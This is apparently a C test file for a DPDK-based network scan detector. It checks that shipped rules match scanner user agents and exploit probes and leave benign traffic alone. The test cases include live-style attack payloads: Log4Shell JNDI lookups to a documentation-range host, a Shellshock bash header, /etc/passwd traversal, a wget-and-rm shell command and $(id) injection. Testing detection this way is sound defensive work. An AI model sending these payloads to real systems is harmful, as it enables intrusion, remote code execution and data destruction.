/* SPDX-License-Identifier: BSD-3-Clause */
/*
 * Payload matching on the worker path: real mbufs through
 * sw_worker_burst() with the shipped rules, matches read back from the
 * worker's match ring. Checks what matches and what must not, the port
 * prefilter, the rules.max-bytes limit, the excerpt, the per-worker dedup
 * and the counted drops of a full ring.
 * Usage: test_match RULES_DIR
 */

#include <fcntl.h>
#include <limits.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <rte_malloc.h>
#include <rte_mbuf.h>
#include <rte_mempool.h>
#include <rte_ring.h>
#include <rte_ring_elem.h>

#include <scanwatch/conf.h>
#include <scanwatch/match.h>
#include <scanwatch/worker.h>
#include "match/match_int.h"

#include "check.h"
#include "eal.h"

#define NSEC 1000000000ULL

static const char *rules_dir;
static struct rte_mempool *mp;
static struct sw_conf conf;

/* An Ethernet + IPv4 + TCP (PSH/ACK) or UDP frame carrying payload. */
static struct rte_mbuf *
frame(uint8_t proto, uint32_t src, uint32_t dst, uint16_t sport, uint16_t dport,
      const void *payload, size_t plen)
{
	struct rte_mbuf *m = rte_pktmbuf_alloc(mp);
	uint8_t *f;
	size_t l4 = proto == IPPROTO_TCP ? 20 : 8, len = 14 + 20 + l4 + plen;

	if (m == NULL || len > 2000) {
		fprintf(stderr, "test_match: no mbuf\n");
		exit(2);
	}
	f = (uint8_t *)rte_pktmbuf_append(m, (uint16_t)(len < 60 ? 60 : len));
	memset(f, 0, len < 60 ? 60 : len);
	f[12] = 0x08;
	f[14] = 0x45;
	f[16] = (uint8_t)((20 + l4 + plen) >> 8);
	f[17] = (uint8_t)(20 + l4 + plen);
	f[22] = 64;
	f[23] = proto;
	for (int i = 0; i < 4; i++) {
		f[26 + i] = (uint8_t)(src >> (24 - 8 * i));
		f[30 + i] = (uint8_t)(dst >> (24 - 8 * i));
	}
	f[34] = (uint8_t)(sport >> 8);
	f[35] = (uint8_t)sport;
	f[36] = (uint8_t)(dport >> 8);
	f[37] = (uint8_t)dport;
	if (proto == IPPROTO_TCP) {
		f[46] = 0x50;
		f[47] = plen ? 0x18 : 0x02;	/* PSH/ACK, or a bare SYN */
		f[48] = 0xff;
	} else {
		f[38] = (uint8_t)((8 + plen) >> 8);
		f[39] = (uint8_t)(8 + plen);
	}
	memcpy(f + 14 + 20 + l4, payload, plen);
	return m;
}

/* A worker without detection: matching is all these tests drive. */
static struct sw_worker *
new_worker(void)
{
	struct sw_worker_params p = {
		.nworkers = 1, .burst = 32, .offline = true, .ring_size = 64,
		.socket = SOCKET_ID_ANY,
	};
	char err[512];
	struct sw_worker *w = sw_worker_create(&conf, &p, err, sizeof(err));

	if (w == NULL) {
		fprintf(stderr, "test_match: %s\n", err);
		exit(2);
	}
	return w;
}

static struct sw_worker *
worker(const char *rules, uint32_t max_bytes, uint32_t ring, struct sw_matcher **mp_out)
{
	struct sw_worker *w;
	char err[1024];

	sw_conf_defaults(&conf);
	w = new_worker();
	if (strlen(rules) >= SW_MAX_STR) {
		fprintf(stderr, "test_match: rules path too long\n");
		exit(2);
	}
	conf.rule_files.n = 1;
	memcpy(conf.rule_files.v[0], rules, strlen(rules) + 1);
	conf.rule_max_bytes = max_bytes;
	conf.match_ring_size = ring;
	w->burst = 32;
	w->offline = true;		/* packet time = w->last_ts_ns: set by the test */
	w->clock.ts_dynfield = -1;
	w->last_ts_ns = 1000 * NSEC;
	*mp_out = sw_matcher_create(&conf, &w, 1, err, sizeof(err));
	if (*mp_out == NULL) {
		fprintf(stderr, "test_match: %s\n", err);
		exit(2);
	}
	return w;
}

static void
worker_free(struct sw_worker *w, struct sw_matcher *m)
{
	sw_matcher_free(m);
	sw_worker_free(w);
}

static unsigned
drain(struct sw_worker *w, struct sw_match_event *ev, unsigned max)
{
	return rte_ring_sc_dequeue_burst_elem(w->mring, ev, sizeof(ev[0]), max, NULL);
}

static struct sw_worker *W;
static struct sw_matcher *M;

static void
shipped_setup(uint32_t max_bytes)
{
	char path[PATH_MAX];

	snprintf(path, sizeof(path), "%s/scanwatch.rules", rules_dir);
	W = worker(path, max_bytes, 1024, &M);
}

/* one packet through the worker path; returns the sids matched */
static unsigned
one(uint8_t proto, uint32_t src, uint16_t dport, const void *p, size_t n,
    struct sw_match_event *ev, unsigned max)
{
	struct rte_mbuf *m = frame(proto, src, 0x0a000001, 40000, dport, p, n);

	W->last_ts_ns += NSEC;		/* past the worker's 1 s dedup */
	sw_worker_burst(W, &m, 1);
	return drain(W, ev, max);
}

#define NSE_UA "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"

static void
nse_user_agent_matches_with_excerpt(void)
{
	static const char req[] = "GET /robots.txt HTTP/1.1\r\nConnection: close\r\n"
				  "User-Agent: " NSE_UA "\r\nHost: 10.0.0.1\r\n\r\n";
	struct sw_match_event ev[8];
	const struct sw_rule *r;
	unsigned n;

	shipped_setup(256);
	n = one(IPPROTO_TCP, 0xc0000201, 80, req, strlen(req), ev, 8);
	CHECK(n == 1, "%u matches", n);
	if (n != 1)
		goto out;
	r = sw_matcher_rule(M, ev[0].gen, ev[0].rule);
	CHECK(r != NULL && r->sid == 1500001, "sid %u", r ? r->sid : 0);
	CHECK(r != NULL && strcmp(r->tool, "nmap") == 0, "tool");
	CHECK(ev[0].gen == 1 && ev[0].dport == 80 && ev[0].sport == 40000 &&
	      ev[0].proto == IPPROTO_TCP, "event fields");
	CHECK(ev[0].src.b[12] == 192 && ev[0].src.b[15] == 1 && sw_addr_is_v4(&ev[0].src), "src");
	CHECK(ev[0].payload_len == strlen(req) && ev[0].excerpt_off == 0 &&
	      ev[0].excerpt_len == RTE_MIN(strlen(req), (size_t)SW_MATCH_EXCERPT), "excerpt %u+%u",
	      ev[0].excerpt_off, ev[0].excerpt_len);
	CHECK(memcmp(ev[0].excerpt, req, ev[0].excerpt_len) == 0, "excerpt bytes");
	/* the match ends after "...Nmap Scripting Engine;" */
	CHECK(ev[0].match_end == (uint16_t)(strstr(req, "Engine;") - req + 7), "match_end %u",
	      ev[0].match_end);
	CHECK(W->mst.scanned == 1 && W->mst.matches == 1, "counters");
out:
	worker_free(W, M);
}

/* Ordinary clients, on the ports the rules watch, match nothing. */
static void
benign_traffic_matches_nothing(void)
{
	static const char *const http[] = {
		"GET / HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: Mozilla/5.0 (X11; Linux "
		"x86_64; rv:121.0) Gecko/20100101 Firefox/121.0\r\nAccept: text/html\r\n\r\n",
		"GET /index.html HTTP/1.1\r\nHost: example.org\r\nUser-Agent: curl/7.88.1\r\n"
		"Accept: */*\r\n\r\n",
		"GET /env/config.json HTTP/1.1\r\nHost: a\r\nUser-Agent: Wget/1.21.3\r\n\r\n",
		"GET /robots.txt HTTP/1.1\r\nHost: a\r\nUser-Agent: Mozilla/5.0 (compatible; "
		"Googlebot/2.1; +http://www.google.com/bot.html)\r\n\r\n",
		"POST /api/v1/login HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
		"Content-Length: 30\r\n\r\n{\"user\":\"a\",\"pass\":\"${x}\"}",
		"GET /actuator/health HTTP/1.1\r\nHost: a\r\n\r\n",
		"GET / HTTP/1.0\r\nHost: a\r\n\r\n",
		"OPTIONS * HTTP/1.1\r\nHost: a\r\n\r\n",
		"GET /containers/list HTTP/1.1\r\nHost: a\r\n\r\n",
		"GET /a/.environment HTTP/1.1\r\nHost: a\r\n\r\n",
	};
	/* a DNS A query for www.example.org */
	static const uint8_t dns[] = "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
				     "\x03www\x07" "example\x03org\x00\x00\x01\x00\x01";
	struct sw_match_event ev[8];
	unsigned n = 0;

	shipped_setup(256);
	for (size_t i = 0; i < RTE_DIM(http); i++) {
		unsigned k = one(IPPROTO_TCP, 0xc0000202, 80, http[i], strlen(http[i]), ev, 8);

		CHECK(k == 0, "benign request %zu matched sid %u", i,
		      k ? sw_matcher_rule(M, ev[0].gen, ev[0].rule)->sid : 0);
		n += k;
	}
	n += one(IPPROTO_UDP, 0xc0000202, 53, dns, sizeof(dns) - 1, ev, 8);
	CHECK(n == 0, "%u matches on benign traffic", n);
	CHECK(W->mst.scanned == RTE_DIM(http) + 1, "scanned %lu", (unsigned long)W->mst.scanned);
	worker_free(W, M);
}

/* Every shipped rule fires on the payload its source describes. */
/*
 * What an ordinary client sends (netcat, a shell script, telnet, an X
 * client without Xauthority) may equal an nmap -sV probe byte for byte:
 * the rules that match it must name no tool, or the client's connections
 * would be reported as nmap (a bare GET / HTTP/1.0 was).
 */
static void
bare_client_requests_name_no_tool(void)
{
	static const struct {
		uint16_t port;
		const char *p;
	} cases[] = {
		{ 80, "GET / HTTP/1.0\r\n\r\n" },
		{ 8080, "OPTIONS / HTTP/1.0\r\n\r\n" },
		{ 554, "OPTIONS / RTSP/1.0\r\n\r\n" },
		{ 25, "\r\n\r\n" },
	};
	struct sw_match_event ev[8];

	shipped_setup(256);
	for (size_t i = 0; i < RTE_DIM(cases); i++) {
		unsigned k = one(IPPROTO_TCP, 0xc6336501 + (uint32_t)i, cases[i].port, cases[i].p,
				 strlen(cases[i].p), ev, 8);

		CHECK(k >= 1, "case %zu: the generic probe rule did not fire", i);
		for (unsigned e = 0; e < k; e++) {
			const struct sw_rule *r = sw_matcher_rule(M, ev[e].gen, ev[e].rule);

			CHECK(r != NULL && r->tool[0] == '\0', "case %zu: sid %u names tool %s", i,
			      r ? r->sid : 0, r ? r->tool : "?");
		}
	}
	{
		/* an X client's setup with no authorization: 12 bytes exactly */
		static const char x11[] = "l\0\x0b\0\0\0\0\0\0\0\0\0";
		unsigned k = one(IPPROTO_TCP, 0xc6336510, 6000, x11, sizeof(x11) - 1, ev, 8);

		CHECK(k == 1, "x11: %u matches", k);
		for (unsigned e = 0; e < k; e++) {
			const struct sw_rule *r = sw_matcher_rule(M, ev[e].gen, ev[e].rule);

			CHECK(r != NULL && r->tool[0] == '\0', "x11: names a tool");
		}
	}
	worker_free(W, M);
}

static void
each_shipped_rule_fires_on_its_probe(void)
{
	static const struct {
		uint32_t sid;
		uint8_t proto;
		uint16_t port;
		const char *p;
		size_t n;
	} cases[] = {
/* the literal's own length: payloads may hold NUL */
#define C(sid, proto, port, lit) { sid, proto, port, lit, sizeof(lit) - 1 }
		C(1500002, 6, 80, "GET / HTTP/1.0\r\nUser-Agent: masscan/1.3 "
		  "(https://github.com/robertdavidgraham/masscan)\r\nAccept: */*\r\n\r\n"),
		C(1500003, 6, 8080, "GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0 zgrab/0.x\r\n\r\n"),
		C(1500004, 6, 443, "GET / HTTP/1.1\r\nHost: x\r\nUser-Agent: Mozilla/5.0 (compatible; "
		  "CensysInspect/1.1; +https://about.censys.io/)\r\n\r\n"),
		C(1500005, 6, 80, "GET / HTTP/1.1\r\nUser-Agent: Expanse, a Palo Alto Networks "
		  "company, searches across the global IPv4 space\r\n\r\n"),
		C(1500006, 6, 80, "GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (compatible; "
		  "InternetMeasurement/1.0; +https://internet-measurement.com/)\r\n\r\n"),
		C(1500007, 6, 9200, "GET / HTTP/1.1\r\nUser-Agent: l9explore/1.2.2\r\n\r\n"),
		C(1500008, 6, 80, "GET /.git/config HTTP/1.1\r\nUser-Agent: Nuclei - Open-source "
		  "project (github.com/projectdiscovery/nuclei)\r\n\r\n"),
		C(1500009, 6, 80, "GET /?id=1 HTTP/1.1\r\nUser-Agent: sqlmap/1.7.2#stable "
		  "(https://sqlmap.org)\r\n\r\n"),
		C(1500010, 6, 80, "GET /admin/ HTTP/1.1\r\nUser-Agent: Mozilla/5.00 (Nikto/2.1.6) "
		  "(Evasions:None) (Test:000003)\r\n\r\n"),
		C(1500101, 6, 8000, "GET / HTTP/1.0\r\n\r\n"),
		C(1500102, 6, 8000, "OPTIONS / HTTP/1.0\r\n\r\n"),
		C(1500103, 6, 554, "OPTIONS / RTSP/1.0\r\n\r\n"),
		C(1500104, 6, 9999, "\r\n\r\n"),
		C(1500105, 6, 80, "GET /nice%20ports%2C/Tri%6Eity.txt%2ebak HTTP/1.0\r\n\r\n"),
		C(1500106, 17, 5060, "OPTIONS sip:nm SIP/2.0\r\nVia: SIP/2.0/UDP nm;branch=foo\r\n"),
		C(1500107, 6, 6000, "l\0\x0b\0\0\0\0\0\0\0\0\0"),
		C(1500108, 17, 53, "\0\x06\x01\0\0\x01\0\0\0\0\0\0\x07version\x04" "bind\0\0\x10\0\x03"),
		C(1500109, 6, 53, "\0\x1e\0\x06\x01\0\0\x01\0\0\0\0\0\0\x07version\x04" "bind\0\0\x10\0\x03"),
		C(1500114, 17, 5353, "ww\x01\0\0\x01\0\0\0\0\0\0\x07version\x04" "bind\0\0\x10\0\x03"),
		C(1500115, 17, 69, "\0\0\x10\0\0\0\0\0\0\0\0\0"),
		C(1500110, 17, 53, "\xab\xcd\x01\0\0\x01\0\0\0\0\0\0\x07version\x04" "bind\0\0\x10\0\x03"),
		C(1500111, 6, 3389, "\x03\0\0*%\xe0\0\0\0\0\0Cookie: mstshash=nmap\r\n\x01\0\x08\0\x03\0\0\0"),
		C(1500112, 6, 443, "\x16\x03\0\0S\x01\0\0O\x03\0?G\xd7\xf7\xba,\xee\xea\xb2`~\xf3\0\xfd"),
		C(1500113, 6, 443, "\x16\x03\0\0i\x01\0\0e\x03\x03U\x1c\xa7\xe4random1random2random3random4\0\0"),
		C(1500201, 6, 8080, "GET / HTTP/1.1\r\nX-Api-Version: ${jndi:ldap://198.51.100.7:1389/a}\r\n\r\n"),
		C(1500202, 6, 80, "GET /?x=${${lower:j}ndi:${lower:l}dap://x/a} HTTP/1.1\r\n\r\n"),
		C(1500203, 6, 80, "GET /cgi-bin/status HTTP/1.1\r\nUser-Agent: () { :; }; /bin/bash -c id\r\n\r\n"),
		C(1500204, 6, 80, "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1\r\n\r\n"),
		C(1500205, 6, 80, "GET /cgi-bin/.%%32%65/.%%32%65/etc/passwd HTTP/1.1\r\n\r\n"),
		C(1500206, 6, 80, "POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\n\r\n"),
		C(1500207, 6, 80, "GET /index.php?s=/Index/\\think\\app/invokefunction&function="
		  "call_user_func_array&vars[0]=md5 HTTP/1.1\r\n\r\n"),
		C(1500208, 6, 80, "GET /shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.9/x HTTP/1.1\r\n\r\n"),
		C(1500209, 6, 80, "PUT /SDK/webLanguage HTTP/1.1\r\nHost: x\r\n\r\n<language>$(id)</language>"),
		C(1500210, 6, 8080, "POST /GponForm/diag_Form?images/ HTTP/1.1\r\n\r\n"),
		C(1500211, 6, 2375, "GET /v1.24/containers/json HTTP/1.1\r\nHost: x\r\n\r\n"),
		C(1500212, 6, 80, "GET /laravel/.env HTTP/1.1\r\nHost: x\r\n\r\n"),
		C(1500213, 6, 8080, "GET /actuator/env HTTP/1.1\r\nHost: x\r\n\r\n"),
		C(1500214, 6, 8080, "POST /app HTTP/1.1\r\n\r\nclass.module.classLoader.resources.context"
		  ".parent.pipeline.first.pattern=x"),
		C(1500215, 6, 443, "POST /vpn/../vpns/portal/scripts/newbm.pl HTTP/1.1\r\n\r\n"),
		C(1500216, 6, 443, "GET /tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp HTTP/1.1\r\n\r\n"),
#undef C
	};
	struct sw_match_event ev[8];

	shipped_setup(256);
	for (size_t i = 0; i < RTE_DIM(cases); i++) {
		size_t n = cases[i].n;
		unsigned k = one(cases[i].proto, 0xc6336401 + (uint32_t)i, cases[i].port, cases[i].p,
				 n, ev, 8);
		bool hit = false;

		for (unsigned e = 0; e < k; e++) {
			const struct sw_rule *r = sw_matcher_rule(M, ev[e].gen, ev[e].rule);

			hit |= r != NULL && r->sid == cases[i].sid;
		}
		CHECK(hit, "sid %u did not fire on its probe (%u other matches)", cases[i].sid, k);
	}
	/* the NSE rule has its own test: every other shipped rule is covered */
	CHECK(RTE_DIM(cases) + 1 == M->cur->rs.n, "%zu cases for %u rules",
	      RTE_DIM(cases) + 1, M->cur->rs.n);
	worker_free(W, M);
}

static void
port_prefilter_keeps_port_rules_to_their_ports(void)
{
	static const char x11[12] = "l\0\x0b\0\0\0\0\0\0\0\0";
	static const char vb[] = "\0\x06\x01\0\0\x01\0\0\0\0\0\0\x07version\x04" "bind\0\0\x10\0\x03";
	static const char docker[] = "GET /containers/json HTTP/1.1\r\nHost: x\r\n\r\n";
	struct sw_match_event ev[8];

	shipped_setup(256);
	CHECK(one(IPPROTO_TCP, 0xc0000203, 6001, x11, 12, ev, 8) == 1, "X11 probe on 6001");
	CHECK(one(IPPROTO_TCP, 0xc0000203, 7001, x11, 12, ev, 8) == 0, "X11 probe on 7001");
	CHECK(one(IPPROTO_UDP, 0xc0000203, 53, vb, sizeof(vb) - 1, ev, 8) == 2,
	      "nmap's and the generic version.bind rule on udp/53");
	CHECK(one(IPPROTO_UDP, 0xc0000203, 5353, vb, sizeof(vb) - 1, ev, 8) == 0, "udp/5353");
	CHECK(one(IPPROTO_TCP, 0xc0000203, 2376, docker, strlen(docker), ev, 8) == 1, "docker 2376");
	CHECK(one(IPPROTO_TCP, 0xc0000203, 80, docker, strlen(docker), ev, 8) == 0, "docker on 80");
	worker_free(W, M);
}

static void
only_the_first_max_bytes_are_scanned(void)
{
	char req[512];
	struct sw_match_event ev[8];
	int n = snprintf(req, sizeof(req), "GET / HTTP/1.1\r\nHost: x\r\nAccept: %0100d\r\n"
			 "User-Agent: " NSE_UA "\r\n\r\n", 0);

	shipped_setup(100);
	CHECK(one(IPPROTO_TCP, 0xc0000204, 80, req, (size_t)n, ev, 8) == 0,
	      "matched beyond rules.max-bytes=100");
	CHECK(W->mst.bytes == 100, "scanned %lu bytes", (unsigned long)W->mst.bytes);
	worker_free(W, M);
	shipped_setup(256);
	CHECK(one(IPPROTO_TCP, 0xc0000204, 80, req, (size_t)n, ev, 8) == 1, "not found in 256");
	/* the excerpt is a window around the match when the match is far in */
	CHECK(ev[0].excerpt_off > 0 && ev[0].excerpt_off + ev[0].excerpt_len >= ev[0].match_end &&
	      ev[0].match_end - ev[0].excerpt_off == SW_MATCH_EXCERPT * 3 / 4,
	      "excerpt at %u+%u, match ends %u", ev[0].excerpt_off, ev[0].excerpt_len,
	      ev[0].match_end);
	CHECK(memcmp(ev[0].excerpt, req + ev[0].excerpt_off, ev[0].excerpt_len) == 0, "bytes");
	worker_free(W, M);
}

static void
packets_without_payload_are_not_scanned(void)
{
	struct rte_mbuf *m[2];
	struct sw_match_event ev[8];

	shipped_setup(256);
	m[0] = frame(IPPROTO_TCP, 0xc0000205, 0x0a000001, 40000, 80, "", 0);	/* SYN */
	m[1] = frame(IPPROTO_UDP, 0xc0000205, 0x0a000001, 40000, 53, "", 0);
	sw_worker_burst(W, m, 2);
	CHECK(W->st.pkts == 2 && W->mst.scanned == 0 && drain(W, ev, 8) == 0, "scanned %lu",
	      (unsigned long)W->mst.scanned);
	/* payload shorter than any rule of its group: not even scanned */
	CHECK(one(IPPROTO_UDP, 0xc0000205, 53, "ab", 2, ev, 8) == 0 && W->mst.short_skips == 1,
	      "short skips %lu", (unsigned long)W->mst.short_skips);
	worker_free(W, M);
}

/*
 * A rule anchored at both ends matches buffers of its own length (plus a
 * final newline, PCRE's $) only; a floating rule any buffer at least as
 * long as its shortest match. Lengths no rule admits skip Hyperscan; every
 * length a rule admits is still scanned (and matches).
 */
static void
length_filter_skips_only_lengths_no_rule_can_match(void)
{
	char path[] = "/tmp/swtest-len-XXXXXX";
	int fd = mkstemp(path);
	static const char text[] =
		"sid:1 proto:tcp ports:80 msg:\"both\" pattern:/^\\r\\n\\r\\n$/\n"
		"sid:2 proto:tcp ports:80 msg:\"alt\" pattern:/^ab$|xyzzy-long-literal/\n"
		"sid:3 proto:tcp ports:81 msg:\"float\" pattern:/needle/\n";
	struct sw_match_event ev[8];
	size_t first;

	CHECK(fd >= 0 && write(fd, text, sizeof(text) - 1) == (ssize_t)(sizeof(text) - 1),
	      "rule file");
	close(fd);
	W = worker(path, 256, 1024, &M);
	/* port 80: lengths 2 (sid 2's first branch: alternation keeps it
	 * unanchored, so >= 2), 4 and 5 */
	CHECK(one(IPPROTO_TCP, 0xc0000206, 80, "\r\n\r\n", 4, ev, 8) == 1, "4 bytes: match");
	CHECK(one(IPPROTO_TCP, 0xc0000206, 80, "\r\n\r\n\n", 5, ev, 8) == 1, "final newline");
	CHECK(one(IPPROTO_TCP, 0xc0000206, 80, "ab", 2, ev, 8) == 1, "alternation");
	CHECK(one(IPPROTO_TCP, 0xc0000206, 80, "x", 1, ev, 8) == 0 && W->mst.short_skips == 1 &&
	      W->mst.scanned == 3, "1 byte skipped: skips %lu scanned %lu",
	      (unsigned long)W->mst.short_skips, (unsigned long)W->mst.scanned);
	/* port 81: only "needle" (6) and longer */
	CHECK(one(IPPROTO_TCP, 0xc0000206, 81, "needl", 5, ev, 8) == 0 && W->mst.short_skips == 2,
	      "5 bytes skipped");
	CHECK(one(IPPROTO_TCP, 0xc0000206, 81, "a needle in 600 bytes", 21, ev, 8) == 1,
	      "floating match");
	worker_free(W, M);
	/* both ends anchored, nothing else: 6-byte segments are never scanned */
	fd = open(path, O_WRONLY | O_TRUNC);
	first = (size_t)(strchr(text, '\n') - text + 1);	/* sid 1 only */
	CHECK(fd >= 0 && write(fd, text, first) == (ssize_t)first, "rule file");
	close(fd);
	W = worker(path, 256, 1024, &M);
	CHECK(one(IPPROTO_TCP, 0xc0000206, 80, "GET / ", 6, ev, 8) == 0 &&
	      W->mst.short_skips == 1 && W->mst.scanned == 0, "6 bytes skipped");
	CHECK(one(IPPROTO_TCP, 0xc0000206, 80, "\r\n\r\n", 4, ev, 8) == 1, "4 bytes still match");
	worker_free(W, M);
	unlink(path);
}

static void
worker_sends_one_record_per_source_and_sid_a_second(void)
{
	static const char req[] = "GET / HTTP/1.1\r\nUser-Agent: " NSE_UA "\r\n\r\n";
	struct rte_mbuf *m[8];
	struct sw_match_event ev[16];
	unsigned n;

	shipped_setup(256);
	/* 6 from one source, 2 from another, one burst, one instant */
	for (int i = 0; i < 8; i++)
		m[i] = frame(IPPROTO_TCP, i < 6 ? 0xc0000206 : 0xc0000207, 0x0a000001 + (uint32_t)i,
			     40000, 80, req, strlen(req));
	sw_worker_burst(W, m, 8);
	n = drain(W, ev, 16);
	CHECK(n == 2, "%u records", n);
	CHECK(W->mst.matches == 8 && W->mst.dedup == 6, "matches %lu dedup %lu",
	      (unsigned long)W->mst.matches, (unsigned long)W->mst.dedup);
	/* a second later the source is reported again (ctl suppresses) */
	CHECK(one(IPPROTO_TCP, 0xc0000206, 80, req, strlen(req), ev, 16) == 1, "after 1 s");
	worker_free(W, M);
}

static void
full_ring_counts_drops_and_loses_no_packet(void)
{
	static const char req[] = "GET / HTTP/1.1\r\nUser-Agent: " NSE_UA "\r\n\r\n";
	char path[PATH_MAX];
	struct rte_mbuf *m[32];
	unsigned sent = 0;

	snprintf(path, sizeof(path), "%s/scanwatch.rules", rules_dir);
	W = worker(path, 256, 64, &M);
	for (int b = 0; b < 4; b++) {
		for (int i = 0; i < 32; i++)
			m[i] = frame(IPPROTO_TCP, 0xc0100000 + (uint32_t)(b * 32 + i), 0x0a000001,
				     40000, 80, req, strlen(req));
		sw_worker_burst(W, m, 32);
		sent += 32;
	}
	/* a ring of 64 holds 63 */
	CHECK(W->st.pkts == sent, "pkts %lu of %u", (unsigned long)W->st.pkts, sent);
	CHECK(rte_ring_count(W->mring) == 63 && W->mst.ring_drops == sent - 63,
	      "ring %u drops %lu", rte_ring_count(W->mring), (unsigned long)W->mst.ring_drops);
	CHECK(rte_mempool_in_use_count(mp) == 0, "%u mbufs not freed", rte_mempool_in_use_count(mp));
	worker_free(W, M);
}

static void
disabled_or_no_files_means_no_matcher(void)
{
	struct sw_worker *w = new_worker();
	char err[256];

	sw_conf_defaults(&conf);
	conf.rule_files.n = 0;		/* the default is the shipped set */
	CHECK(sw_matcher_create(&conf, &w, 1, err, sizeof(err)) == NULL && err[0] == '\0',
	      "no files: %s", err);
	conf.rule_files.n = 1;
	snprintf(conf.rule_files.v[0], SW_MAX_STR, "%s/scanwatch.rules", rules_dir);
	conf.rules_enabled = SW_NO;
	CHECK(sw_matcher_create(&conf, &w, 1, err, sizeof(err)) == NULL && err[0] == '\0',
	      "disabled: %s", err);
	CHECK(w->matcher == NULL && w->mring == NULL, "worker untouched");
	conf.rules_enabled = SW_YES;
	snprintf(conf.rule_files.v[0], SW_MAX_STR, "/nonexistent.rules");
	CHECK(sw_matcher_create(&conf, &w, 1, err, sizeof(err)) == NULL &&
	      strstr(err, "/nonexistent.rules") != NULL, "missing file: %s", err);
	sw_worker_free(w);
}

int
main(int argc, char **argv)
{
	if (argc < 2) {
		fprintf(stderr, "usage: test_match RULES_DIR\n");
		return 2;
	}
	rules_dir = argv[1];
	if (test_eal_init("match") != 0)
		return 2;
	mp = rte_pktmbuf_pool_create("test_match", 1023, 0, 0, 2048 + RTE_PKTMBUF_HEADROOM,
				     SOCKET_ID_ANY);
	if (mp == NULL) {
		fprintf(stderr, "test_match: no mempool\n");
		return 2;
	}
	RUN(nse_user_agent_matches_with_excerpt);
	RUN(benign_traffic_matches_nothing);
	RUN(each_shipped_rule_fires_on_its_probe);
	RUN(bare_client_requests_name_no_tool);
	RUN(port_prefilter_keeps_port_rules_to_their_ports);
	RUN(only_the_first_max_bytes_are_scanned);
	RUN(packets_without_payload_are_not_scanned);
	RUN(length_filter_skips_only_lengths_no_rule_can_match);
	RUN(worker_sends_one_record_per_source_and_sid_a_second);
	RUN(full_ring_counts_drops_and_loses_no_packet);
	RUN(disabled_or_no_files_means_no_matcher);
	rte_mempool_free(mp);
	test_eal_cleanup();
	NOTE("%u tests, %u failed", n_tests, n_failed);
	return n_failed != 0;
}
